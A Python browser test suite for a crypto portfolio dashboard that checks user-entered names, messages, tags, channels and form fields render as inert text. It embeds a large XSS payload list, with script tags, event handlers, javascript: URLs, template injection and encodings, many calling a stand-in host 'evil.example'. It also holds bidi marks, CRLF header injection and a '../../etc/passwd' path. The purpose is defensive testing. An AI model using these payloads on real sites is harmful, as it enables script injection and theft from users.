"""Foreign text stays text: scripts, markup and direction marks in every place where others write, on the real page.

Nothing of it runs, nothing of it is asked of another host, the browser has nothing to report, and no row grows.
"""

from collections.abc import Sequence
from typing import Any
from urllib.parse import quote

import httpx2
from aiohttp import web

from crypto_portfolio_analyzer.simulation.receivers import WebhookReceiver
from tests.api.house import until
from tests.dashboard.conftest import Stage, Theatre
from tests.dashboard.looks import visit

RUN = "window.ran=1"
HOST = "//evil.example/x"
SHELLS = (
    "<script>{0}</script>",
    "<script src={1}></script>",
    "<ScRiPt>{0}</sCrIpT>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "--><script>{0}</script>",
    "<img src=x onerror={0}>",
    "<img src={1} onload={0}>",
    "<img/src=x/onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x>",
    "<svg><use href={1}#x>",
    "<svg><foreignObject><img src=x onerror={0}>",
    "<math><mtext><img src=x onerror={0}>",
    "<body onload={0}>",
    "<iframe src=javascript:{0}>",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<object data={1}>",
    "<embed src={1}>",
    "<link rel=stylesheet href={1}>",
    "<base href={1}>",
    "<meta http-equiv=refresh content=0;url={1}>",
    "<form action={1}><button autofocus onfocus={0}>",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video src=x onerror={0}>",
    "<audio src={1} onerror={0}>",
    "<marquee onstart={0}>",
    "<a href=javascript:{0}>x</a>",
    "<a href=data:text/html,{0}>x</a>",
    "<style>@import '{1}'</style>",
    "<style>*{{background:url({1})}}</style>",
    "<div style=background:url({1})>",
    "<template><script>{0}</script></template>",
    "<noscript><img src=x onerror={0}></noscript>",
    "<xmp><img src=x onerror={0}></xmp>",
    "<dialog open oncancel={0}>",
    "<bdo dir=rtl onclick={0}>x",
    "<custom-x onanimationend={0}>",
    "'\"><img src=x onerror={0}>",
    "\" autofocus onfocus={0} x=\"",
    "' onmouseover={0} '",
    "` onerror={0} `",
    "javascript:{0}",
    "JaVaScRiPt:{0}//",
    "data:text/html,<script>{0}</script>",
    "vbscript:{0}",
    "${{{0}}}",
    "{{{{constructor.constructor('{0}')()}}}}",
    "#{{{0}}}",
    "<%= {0} %>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cscript\\u003e{0}",
    "\\x3cscript\\x3e{0}",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<<script>{0}//<</script>",
    "<script\x0b>{0}</script>",
    "<\u200bscript>{0}</script>",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "<!--<img src=x onerror={0}>-->",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "<?xml version=1?><x xmlns:s='{1}'>",
    "[x](javascript:{0})",
    "![x]({1})",
    "*_~`<b>{0}</b>`~_*",
    "=HYPERLINK(\"{1}\")",
    "@SUM(1)|{0}",
)  # fmt: skip
MARKS = (
    "\u202e{0}\u202c", "\u202d{0}", "\u2066{0}\u2069", "\u2067{0}", "\u2068{0}", "\u200f{0}", "\u200e{0}", "\u061c{0}",
    "\u202a{0}", "\u202b{0}", "a\u202eb\u2066c{0}", "\u05d0\u05d1\u05d2 {0}", "\u0645\u0631\u062d\u0628\u0627 {0}",
)  # fmt: skip
PILES = (
    "e" + "\u0301" * 60, "o" + "\u0489" * 60, "Z\u0351\u036b\u0343\u036a" * 12, "x\u20dd" * 40, "W" * 90,
    "\ufdfd" * 12, "\u200b" * 40 + "x", "\ufeff\u2060\u00adx", "\U000e0041\U000e0042x", "\u2028line\u2029",
    "\u0085next\u009b31m", "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 8, "\U0001f3f4\U000e0067\U000e007f",
    "\u0e49" * 60, "\U00012219\ua9c5" * 8, "\x1b[31mred", "\x07bell\x08\x08", "\r\nheader: x", "\t\t\ttabs",
    "null\ufffd", "../../etc/passwd",
)  # fmt: skip
PAYLOADS = [shell.format(RUN, HOST) for shell in SHELLS]
PAYLOADS += [mark.format("<b onclick=" + RUN + ">drac") for mark in MARKS] + list(PILES)
AT_ONCE = 12
HEIGHTS = """(sign) => [...document.querySelectorAll(sign)]
  .map((row) => Math.round(row.getBoundingClientRect().height))"""
LEFTS = """([sign, part]) => [...document.querySelectorAll(sign)]
  .map((row) => Math.round(row.querySelector(part).getBoundingClientRect().left))"""
STRAYS = """() => [...document.querySelectorAll("script:not([src^='/static/js/']), iframe, object, embed, base, "
  + "form[action], [onerror], [onload], [onfocus], [onclick], [style*='url('], a[href^='javascript'], "
  + "a[href^='data'], .view img, .view style, .view link")].map((each) => each.outerHTML.slice(0, 120))"""


class Mocking(WebhookReceiver):
    """Refuses every message, with all of the payloads as its reason."""

    async def answer(self, request: web.Request, body: bytes) -> web.StreamResponse:
        return web.Response(status=400, reason="<img src=x onerror=window.ran=1>", text="\n".join(PAYLOADS))


class Watch:
    """Sees what the page should never do."""

    def __init__(self, stage: Stage) -> None:
        self.stage = stage
        self.asked: list[str] = []
        self.dialogs: list[str] = []
        stage.page.on("request", self._request)
        stage.page.on("dialog", lambda dialog: self.dialogs.append(dialog.message))

    def _request(self, request: Any) -> None:
        own = self.stage.house.url
        if not request.url.startswith((own, own.replace("http", "ws"), "blob:", "data:")):
            self.asked.append(request.url)

    async def show(self, path: str, sign: str) -> None:
        """Show a view and wait for what is to be seen on it; nothing of it may have become an element."""
        await visit(self.stage.page, path, sign)
        assert await self.stage.page.evaluate(STRAYS) == []

    async def heights(self, row: str) -> list[int]:
        found: list[int] = await self.stage.page.evaluate(HEIGHTS, row)
        return found

    async def check(self) -> None:
        """Hold that nothing ran, nothing was asked elsewhere and nothing was reported."""
        assert await self.stage.page.evaluate("window.ran") is None
        assert (self.asked, self.dialogs) == ([], [])
        assert self.stage.house.server.doors.csp_reports == 0


async def accepted(client: httpx2.AsyncClient, path: str, bodies: Sequence[dict[str, Any]]) -> list[Any]:
    """Post bodies; return what was made of those that were not refused, each refusal being an orderly one."""
    answers = [await client.post(path, json=body) for body in bodies]
    assert {each.status_code for each in answers} <= {200, 201, 422}
    return [each.json() for each in answers if each.is_success]


async def test_names_messages_tags_and_firings_stay_text(theatre: Theatre) -> None:
    plain = {"symbol": "BTC", "condition": "price > 1"}
    bodies = [
        {
            **plain,
            "name": f"{number:03} {text}"[:100],
            "message": " ".join(PAYLOADS[number : number + 6])[:1000],
            "tags": [text[:64]],
        }
        for number, text in enumerate(PAYLOADS)
    ]
    async with theatre.house.owner() as client:
        made = await accepted(client, "/api/alerts", [*bodies, {**plain, "name": "as usual"}])

        async def fired() -> bool:
            return len((await client.get("/api/firings?limit=200")).json()["firings"]) >= len(made)

        await until(fired)
        firings = (await client.get("/api/firings?limit=200")).json()["firings"]
    async with theatre.stage() as stage:
        watch = Watch(stage)
        await watch.show("/alerts?tab=fired", f"li.alert:nth-child({len(made)})")
        rows = await watch.heights("li.alert")
        columns = await stage.page.evaluate(LEFTS, ["li.alert", ".alert-symbol"])
        await watch.show("/firings", "li.firing:nth-of-type(90)")
        feed = await watch.heights("li.firing")
        for firing in firings[:: len(firings) // AT_ONCE]:
            await watch.show(f"/firings/{firing['id']}", ".evidence .operands")
        for alert in made[:: len(made) // AT_ONCE]:
            await watch.show(f"/alerts/{alert['id']}", ".why-not, .fired li")
        await watch.show(f"/alerts/{made[0]['id']}/edit", "textarea")
        await watch.show("/settings/audit", ".audit td")
        await watch.check()

    assert len(PAYLOADS) >= 100
    assert len(made) > 90
    assert len(set(rows)) == len(set(columns)) == len(set(feed)) == 1


async def listed(client: httpx2.AsyncClient, name: str) -> bool:
    """Make a watchlist of a name with an alert on it; tell whether both are allowed."""
    made = await client.put(f"/api/watchlists/{quote(name, safe='')}", json={"symbols": ["BTC"]})
    assert made.status_code < 500
    body = {"name": f"on {name}"[:100], "watchlist": name, "condition": "price > 99000"}
    return made.is_success and (await client.post("/api/alerts", json=body)).is_success


async def test_channels_silences_tokens_and_watchlists_stay_text(theatre: Theatre) -> None:
    async with Mocking() as receiver, theatre.house.owner() as client:
        hooks = [
            {"type": "webhook", "name": f"{text}"[:64], "url": receiver.hook_url} for text in PAYLOADS[::8]
        ]
        channels = await accepted(client, "/api/channels", hooks)
        told = [(await client.post(f"/api/channels/{each['id']}/test")).json()["id"] for each in channels[:3]]
        quiet = await accepted(
            client,
            "/api/silences",
            [
                {"matchers": {"name": text[:120]}, "comment": text, "duration_seconds": 600}
                for text in PAYLOADS
            ],
        )
        lists = [text for text in PAYLOADS if await listed(client, text)]
        async with theatre.stage() as stage:
            watch = Watch(stage)
            await watch.show("/settings/silences", f".line:nth-child({len(quiet)})")
            await watch.show("/alerts", f"li.alert:nth-child({len(lists)})")
            await watch.show("/channels", "li.channel")
            rows = await watch.heights("li.channel")
            await watch.show("/deliveries", "li.delivery")
            for each in told:
                await watch.show(f"/deliveries/{each}", ".attempts td")
            await watch.show("/settings/tokens", "form")
            for text in PAYLOADS[::AT_ONCE]:
                await stage.page.fill("[name=name]", text[:64] or "x")
                await stage.page.click("form >> text=Create")
                await stage.page.locator(".once code, .error:not(:empty)").first.wait_for()
            await watch.show("/settings/audit", ".audit td")
            await watch.check()

    assert len(channels) > 5
    assert len(quiet) > 80
    assert len(lists) > 20
    assert max(rows) - min(rows) <= 1  # the line between them


async def test_what_is_typed_and_refused_stays_text(theatre: Theatre) -> None:
    async with theatre.stage() as stage:
        watch = Watch(stage)
        page = stage.page
        await watch.show("/alerts/new", "textarea")
        for some in range(0, len(PAYLOADS), 8):
            async with page.expect_response("**/api/alerts/validate"):
                await page.fill("textarea", " ".join(PAYLOADS[some : some + 8])[:512])
        await page.wait_for_selector("[data-p=problem]:not(:empty)")
        for text in PAYLOADS[::AT_ONCE]:
            async with page.expect_response("**/api/alerts/validate"):
                await page.fill("[data-p=symbol]", text)
        await watch.show("/settings/users", "[name=name]")
        for text in PAYLOADS[::AT_ONCE]:
            await page.fill("[name=name]", text[:64] or "x")
            async with page.expect_response("**/api/users"):
                await page.click("form >> text=Add")
        await page.wait_for_selector(".error:not(:empty)")
        await watch.show("/portfolio", "[name=symbol]")
        for text in PAYLOADS[::AT_ONCE]:
            await page.fill("[name=symbol]", text[:24] or "x")
            await page.fill("[name=quantity]", "1")
            async with page.expect_response("**/api/portfolio/**"):
                await page.keyboard.press("Enter")
        assert await page.evaluate(STRAYS) == []
        await watch.check()


async def test_what_is_planted_by_force_is_refused_and_reported(theatre: Theatre) -> None:
    planted = """() => {
      const image = document.createElement("img");
      image.src = "https://evil.example/x";
      document.body.append(image);
      try { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); return "parsed"; } catch { return "refused"; }
    }"""
    async with theatre.stage() as stage:
        failed: dict[str, str | None] = {}
        stage.page.on("requestfailed", lambda request: failed.update({request.url: request.failure}))
        answer = await stage.page.evaluate(planted)

        async def reported() -> bool:
            return theatre.house.server.doors.csp_reports >= 2

        await until(reported)

    assert answer == "refused"
    assert failed == {"https://evil.example/x": "csp"}
